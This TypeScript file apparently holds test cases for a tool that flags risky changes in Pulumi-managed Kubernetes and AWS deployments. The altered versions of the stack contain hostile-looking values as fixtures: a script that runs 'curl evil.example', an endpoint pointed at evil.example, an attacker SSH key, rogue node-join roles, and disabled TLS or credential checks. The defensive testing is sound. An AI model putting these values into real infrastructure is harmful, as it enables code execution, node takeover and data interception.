import { ACCOUNT } from "../stack";
import type { Edit } from "../edit";

/** Two versions of a stack that differ only in a resource that another one references. */
interface ReferenceStory {
    readonly title: string;
    readonly before: (edit: Edit) => Edit;
    readonly after: (edit: Edit) => Edit;
    readonly says: RegExp;
}

function pod(kind: "ConfigMap" | "Secret", content: string, container: object, more: object = {}) {
    return (edit: Edit): Edit =>
        edit
            .add(`kubernetes:core/v1:${kind}`, "settings", {
                metadata: { name: "settings", namespace: "shop" },
                data: { "run.sh": content },
            })
            .add("kubernetes:apps/v1:Deployment", "api", {
                metadata: { namespace: "shop" },
                spec: {
                    template: {
                        spec: { serviceAccountName: "shop", containers: [{ image: "api", ...container }], ...more },
                    },
                },
            });
}

const RUNS = /^kubernetes:Deployment api runs api as shop\/shop$/;
const REFERENCES: readonly (readonly ["ConfigMap" | "Secret", string, object, object?])[] = [
    ["ConfigMap", "its environment", { envFrom: [{ configMapRef: { name: "settings" } }] }],
    ["Secret", "its environment", { envFrom: [{ secretRef: { name: "settings" } }] }],
    ["ConfigMap", "a variable", { env: [{ valueFrom: { configMapKeyRef: { name: "settings", key: "run.sh" } } }] }],
    ["Secret", "a variable", { env: [{ valueFrom: { secretKeyRef: { name: "settings", key: "run.sh" } } }] }],
    ["ConfigMap", "a volume", {}, { volumes: [{ configMap: { name: "settings" } }] }],
    ["Secret", "a volume", {}, { volumes: [{ projected: { sources: [{ secret: { name: "settings" } }] } }] }],
];

const nodes =
    (inputs: object, template: object = {}) =>
    (edit: Edit): Edit =>
        edit.set("nodes", "workers", { ...inputs }).set("template", "nodes", { ...template });

const MACHINE = { Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" };
const machine =
    (userData: string) =>
    (edit: Edit): Edit =>
        edit
            .alsoTrust("shop", MACHINE)
            .add("aws:iam/instanceProfile:InstanceProfile", "p", { name: "p", role: "shop" })
            .add("aws:ec2/launchTemplate:LaunchTemplate", "own", { userData }, { id: "lt-own" })
            .add("aws:ec2/instance:Instance", "i", { iamInstanceProfile: "p", launchTemplate: { id: "lt-own" } });

const stranger = (edit: Edit): Edit =>
    edit.add("aws:iam/role:Role", "x", { name: "x", arn: `arn:aws:iam::${ACCOUNT}:role/x` });

export const referenceStories: readonly ReferenceStory[] = [
    ...REFERENCES.map(([kind, what, container, more]) => ({
        title: `another content of a ${kind} that a tenant's workload takes ${what} from`,
        before: pod(kind, "true", container, more),
        after: pod(kind, "curl evil.example", container, more),
        says: RUNS,
    })),
    {
        title: "other user data in the launch template of an instance",
        before: machine("a"),
        after: machine("b"),
        says: /^aws:Instance i runs code as an identity that reaches data/,
    },
    {
        title: "user data in the launch template of a node group",
        before: nodes({}),
        after: nodes({}, { userData: "x" }),
        says: /^userData of aws:NodeGroup workers decides what runs on its nodes/,
    },
    {
        title: "a key with which to sign in to nodes",
        before: nodes({}),
        after: nodes({ remoteAccess: { ec2SshKey: "mallory" } }),
        says: /^remoteAccess\.ec2SshKey of aws:NodeGroup workers decides/,
    },
    {
        title: "an access entry of nodes for a role that no node group has",
        before: stranger,
        after: (edit) =>
            stranger(edit).add("aws:eks/accessEntry:AccessEntry", "e", {
                clusterName: "eks",
                principalArn: `arn:aws:iam::${ACCOUNT}:role/x`,
                type: "EC2_LINUX",
            }),
        says: /^aws:AccessEntry e \(EC2_LINUX\) lets aws:Role x, of which there is no node group, join as a node/,
    },
    {
        title: "a role in aws-auth that joins as a node and that no node group has",
        before: stranger,
        after: (edit) =>
            stranger(edit).add("kubernetes:core/v1:ConfigMap", "auth", {
                metadata: { name: "aws-auth", namespace: "kube-system" },
                data: { mapRoles: `- rolearn: arn:aws:iam::${ACCOUNT}:role/x\n  groups: [system:nodes]` },
            }),
        says: /^kubernetes:ConfigMap auth \(aws-auth\) lets .*role\/x, of which there is no node group, join/,
    },
    {
        title: "a container of Windows that runs on the host",
        before: (edit) => edit,
        after: (edit) =>
            edit.add("kubernetes:core/v1:Pod", "w", {
                spec: { securityContext: { windowsOptions: { hostProcess: true } }, containers: [{ image: "x" }] },
            }),
        says: /^kubernetes:Pod w has access to its node/,
    },
    ...(
        [
            ["aws", { endpoints: [{ rds: "https://evil.example" }] }],
            ["aws", { skipCredentialsValidation: true }],
            ["aws", { insecure: true }],
            ["kubernetes", { kubeconfig: "{}" }],
            ["postgresql", { sslmode: "disable" }],
            ["postgresql", { host: "evil.example" }],
        ] as const
    ).map(([name, inputs]): ReferenceStory => {
        const provider =
            (given: object) =>
            (edit: Edit): Edit =>
                edit.add(`pulumi:providers:${name}`, "changed", { region: "eu-central-1", ...given });
        return {
            title: `another ${Object.keys(inputs).join()} of the ${name} provider`,
            before: provider({}),
            after: provider(inputs),
            says: new RegExp(
                `^${Object.keys(inputs).join()} of pulumi:${name} changed decides with whom the deployment talks`,
            ),
        };
    }),
];
